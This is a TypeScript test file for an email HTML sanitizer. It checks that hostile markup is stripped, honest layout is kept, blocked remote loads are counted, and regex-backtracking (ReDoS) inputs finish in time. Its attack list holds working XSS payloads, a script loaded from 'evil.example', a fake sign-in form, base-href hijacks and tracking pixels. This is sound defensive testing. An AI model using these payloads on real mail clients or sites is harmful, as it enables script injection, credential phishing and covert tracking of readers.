import assert from 'node:assert/strict';
import { test } from 'node:test';
import { safeMail } from './mail-html.ts';

const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47]);
const shown = (html: string): string => {
  const { page } = safeMail({ html, cut: false, pictures: [{ cid: 'logo@x', type: 'image/png', content: png }] });
  return page.slice(page.indexOf('<body>') + 6, page.indexOf('</body>'));
};

/** Ways in which a mail has run something, been somebody else's page or told its sender that it was read. */
const attacks: readonly string[] = [
  '<script>alert(1)</script>', '<ScRiPt src=//evil.example/x.js></sCrIpT>', '<script>alert(1)', '<img src=x onerror=alert(1)>', '<img src="x" onload="alert(1)" onmouseover=alert(1)>', '<body onload=alert(1)>',
  '<svg onload=alert(1)><script>alert(1)</script></svg>', '<svg><animate onbegin=alert(1) attributeName=x dur=1s>', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>', '<a href="jav&#x09;ascript:alert(1)">x</a>', '<a href=" data:text/html,<script>alert(1)</script>">x</a>', '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x">', '<form action="https://evil.example"><input name=password><button>Sign in</button></form>', '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">', '<link rel=stylesheet href="https://evil.example/x.css">', '<style>@import url(https://evil.example/x.css);body{background:url(https://evil.example/p)}</style>',
  '<div style="background-image:url(https://evil.example/p)">x</div>', '<div style="background:u\\72l(https://evil.example/p)">x</div>', '<div style="width:expression(alert(1))">x</div>', '<div style="color:red;position:fixed;top:0;z-index:9">x</div>',
  '<img src="https://evil.example/pixel.gif">', '<img src="//evil.example/pixel.gif">', '<img srcset="https://evil.example/a 1x">', '<td background="https://evil.example/p">x</td>', '<video poster="https://evil.example/p" src="https://evil.example/v"></video>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">', '<img src="data:text/html,<script>alert(1)</script>">', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<template><script>alert(1)</script></template>',
  '<textarea><script>alert(1)</script></textarea>', '<title><script>alert(1)</script></title>', '<xmp><script>alert(1)</script></xmp>', '<!--><script>alert(1)</script>-->', '<img alt="</body><script>alert(1)</script>" src=x>', '</body></html><script>alert(1)</script>',
  '<p id="root" name="csp-nonce" class="x">x</p>', '<a href="https://evil.example" target="_top" ping="https://evil.example/p">x</a>', '<input autofocus onfocus=alert(1)>', '<details open ontoggle=alert(1)>x</details>', '<marquee onstart=alert(1)>x</marquee>',
];

test('nothing of a hostile mail runs, loads or poses as something else', () => {
  for (const attack of attacks) {
    const html = shown(attack);
    // Apart from text, what is left is tags with attributes: none that does something.
    const tags = html.match(/<[a-z][^>]*>/giu) ?? [];
    for (const tag of tags) {
      assert.doesNotMatch(tag, /^<(?:script|style|iframe|object|embed|form|input|button|meta|base|link|svg|math|video|audio|template|textarea|noscript|details|marquee|title)\b/iu, attack);
      assert.doesNotMatch(tag, /\s(?:on\w+|href|srcset|srcdoc|action|formaction|poster|background|ping|target|id|name|class)\s*=/iu, attack);
      assert.doesNotMatch(tag, /\ssrc="(?!data:image\/(?:png|jpeg|gif|webp);base64,)/iu, attack);
      assert.doesNotMatch(tag, /style="[^"]*(?:url|expression|position|\\)/iu, attack);
    }
  }
});

test('what an honest mail says stays as it was laid out', () => {
  const html = shown('<div style="color:#333;font-weight:bold">Hello <b>Jane</b></div><table><tr><td colspan="2" align="center">1</td></tr></table><img src="cid:logo%40x" alt="Our logo"><a href="https://shop.example/order/7">your order</a>');
  assert.match(html, /<div style="color:#333;font-weight:bold">Hello <b>Jane<\/b><\/div>/u);
  assert.match(html, /<td colspan="2" align="center">1<\/td>/u);
  assert.match(html, /<img alt="Our logo" src="data:image\/png;base64,iVBORw==" \/>/u);
  assert.match(html, /<a title="Leads to https:\/\/shop\.example\/order\/7">your order<\/a>/u);
});

test('what is not loaded is counted and told', () => {
  const { page, blocked } = safeMail({ html: '<img src="https://evil.example/1.gif" alt="Sale"><img src="//evil.example/2.gif"><td background="https://evil.example/3">x</td><div style="background:url(https://evil.example/4)">x</div>', cut: false, pictures: [] });
  assert.equal(blocked, 4);
  assert.match(page, /4 pictures and other files from elsewhere were not loaded/u);
  assert.doesNotMatch(page, /evil\.example/u);
  assert.equal(safeMail({ html: '<p>plain</p>', cut: false, pictures: [] }).blocked, 0);
});

/** What a pattern with two ways to read a blank takes minutes for. */
const slow = [`background=${' '.repeat(490_000)}`, `url(${' '.repeat(490_000)}`, '<link '.repeat(80_000), '<link href='.repeat(44_000), `<link ${'href='.repeat(98_000)}`, `<link href=${' '.repeat(490_000)}`];

test('as much markup as is ever handed over is done before anybody notices', () => {
  const began = performance.now();
  for (const html of ['<div>'.repeat(2_000), `<p style="${'color:red;'.repeat(49_000)}">x</p>`, '<img '.repeat(99_000), '<!--'.repeat(99_000), '<div>x</div>'.repeat(41_000), ...slow]) safeMail({ html, cut: false, pictures: [] });
  assert.ok(performance.now() - began < 6_000, `${Math.round(performance.now() - began)} ms`);
});
